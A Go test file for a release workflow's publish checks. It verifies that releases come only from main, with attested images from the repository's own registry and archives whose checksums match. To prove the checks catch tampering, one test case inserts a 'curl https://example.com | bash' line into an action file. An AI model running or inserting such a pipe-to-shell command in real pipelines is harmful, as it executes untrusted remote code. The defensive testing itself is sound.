package layout

import (
	"bytes"
	"crypto/sha256"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/goccy/go-yaml"
)

// publishChecks returns the shell script of the checks of the job publish, without the
// one that the image is public, which is docker's. Each step is a script of its own that
// has the outputs of those before it.
func publishChecks(t *testing.T) string {
	t.Helper()
	var w struct {
		Jobs map[string]struct {
			Steps []struct{ Name, Run string }
		}
	}
	if err := yaml.Unmarshal([]byte(read(t, ".github/workflows/release.yml")), &w); err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for _, step := range w.Jobs["publish"].Steps {
		if strings.HasPrefix(step.Name, "Check that ") && !strings.HasSuffix(step.Name, " is public") {
			fmt.Fprintf(&b, "(\n%s)\n. \"$GITHUB_OUTPUT\"\nexport VERSION=$version SOURCE=$source IMAGE=${image-}\n", step.Run)
		}
	}
	if n := strings.Count(b.String(), "\n. "); n != 4 {
		t.Fatalf("the job publish has %d checks that the test knows, want 4", n)
	}
	return b.String()
}

// publishStubs are the programs that the checks call. The attested files are in the file
// attested. Every archive contains "archive".
const publishStubs = `set -euo pipefail
docker() { cat >/dev/null; }
gh() {
  case "$1 $2" in
  'attestation verify') [[ " $* " = *" --repo Shop/lambda-release --source-digest $SOURCE "* ]] && printf '%s\n' "${3##*/}" >>attested && [[ $3 != "${DENIED-}" ]] ;;
  'release download')
    mkdir -p "$RUNNER_TEMP/release"
    for target in {darwin,linux,windows}_{amd64,arm64}; do printf archive >"$RUNNER_TEMP/release/lambda-release_$target.tar.gz"; done ;;
  *) return 1 ;;
  esac
}
`

// TestPublishChecks: a release is published only from a commit on main, and only with an
// image and archives of this repository that the workflow has attested.
func TestPublishChecks(t *testing.T) {
	t.Parallel()
	built := fmt.Sprintf("%x", sha256.Sum256([]byte("archive")))
	for name, test := range map[string]struct {
		image    string // its repository
		checksum string // of each archive
		main     string // the branch main, in git's words
		more     bool   // the pull request changes another file, too
		inserted string // a line of binary/action.yml that the release does not have
		denied   string // what is not attested
		want     string // part of the output; "": the checks succeed
	}{
		"all as it should be":         {image: "ghcr.io/shop/lambda-release"},
		"main has moved on":           {image: "ghcr.io/shop/lambda-release", main: "newer"},
		"a source that is not main's": {image: "ghcr.io/shop/lambda-release", main: "elsewhere", want: "is not on main"},
		"another repository's image":  {image: "ghcr.io/evil/lambda-release", want: "is not of ghcr.io/shop/lambda-release"},
		"another registry's image":    {image: "docker.io/shop/lambda-release", want: "is not of ghcr.io/shop/lambda-release"},
		"another archive":             {image: "ghcr.io/shop/lambda-release", checksum: strings.Repeat("0", 64), want: "does not have the SHA-256 of lambda-release_"},
		"an image without an attestation": {
			image: "ghcr.io/shop/lambda-release", denied: "oci://ghcr.io/shop/lambda-release@sha256:" + strings.Repeat("d", 64), want: "exit status",
		},
		"more than pins":           {image: "ghcr.io/shop/lambda-release", more: true, want: "exit status"},
		"more than pins in a file": {image: "ghcr.io/shop/lambda-release", inserted: "        curl https://example.com | bash", want: "changes more than the pins"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := unreleased(t)
			main := test.main
			if main == "" {
				main = "source"
			}
			sums := checksums("", "")
			for i := range 6 {
				sum := built
				if test.checksum != "" {
					sum = test.checksum
				}
				sums = strings.Replace(sums, fmt.Sprintf("%064d ", i), sum+" ", 1)
			}
			git := func(args ...string) string {
				cmd := exec.CommandContext(t.Context(), "git", append([]string{"-C", dir, "-c", "user.name=x", "-c", "user.email=x@example.com"}, args...)...)
				out, err := cmd.CombinedOutput()
				if err != nil {
					t.Fatalf("git %q: %v\n%s", args, err, out)
				}
				return strings.TrimSpace(string(out))
			}
			git("init", "--quiet", "--initial-branch=elsewhere")
			git("commit", "--quiet", "--allow-empty", "--message=elsewhere")
			git("checkout", "--quiet", "-b", "source")
			git("add", ".")
			git("commit", "--quiet", "--message=source")
			git("checkout", "--quiet", "-b", "newer")
			git("commit", "--quiet", "--allow-empty", "--message=newer")
			git("checkout", "--quiet", "-b", "pin", "source")
			if out, err := pin(t, dir, test.image+"@sha256:"+strings.Repeat("d", 64), release, sums); err != nil {
				t.Fatalf("%v\n%s", err, out)
			}
			if test.more {
				if err := os.WriteFile(filepath.Join(dir, "binary", "pin"), []byte("changed"), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			if test.inserted != "" {
				path := filepath.Join(dir, binaryAction)
				text, err := os.ReadFile(path)
				if err != nil {
					t.Fatal(err)
				}
				text = bytes.Replace(text, []byte("\n        tar "), []byte("\n"+test.inserted+"\n        tar "), 1)
				if err := os.WriteFile(path, text, 0o600); err != nil {
					t.Fatal(err)
				}
			}
			git("commit", "--quiet", "--all", "--message=pin")
			git("checkout", "--quiet", "-b", "release", "source")
			git("merge", "--quiet", "--no-ff", "--message=merge", "pin")
			git("update-ref", "refs/remotes/origin/main", main)

			cmd := exec.CommandContext(t.Context(), "bash", "-c", publishStubs+publishChecks(t))
			cmd.Dir = dir
			cmd.Env = append(os.Environ(), "BASE=release/v1.2.3", "HEAD=pin/v1.2.3", "MERGE="+git("rev-parse", "HEAD"), "DENIED="+test.denied,
				"GITHUB_REPOSITORY=Shop/lambda-release", "GITHUB_ACTOR=x", "GH_TOKEN=x", "RUNNER_TEMP="+dir, "GITHUB_OUTPUT="+filepath.Join(dir, "outputs"))
			out, err := cmd.CombinedOutput()
			if text := fmt.Sprintf("%s%v", out, err); test.want != "" && (err == nil || !strings.Contains(text, test.want)) {
				t.Errorf("%s, want %q", text, test.want)
			} else if test.want == "" {
				attested, readErr := os.ReadFile(filepath.Join(dir, "attested"))
				if err != nil || readErr != nil || strings.Count(string(attested), "\n") != 7 {
					t.Errorf("%s, want no error; attested are, want 7:\n%s", text, attested)
				}
			}
		})
	}
}
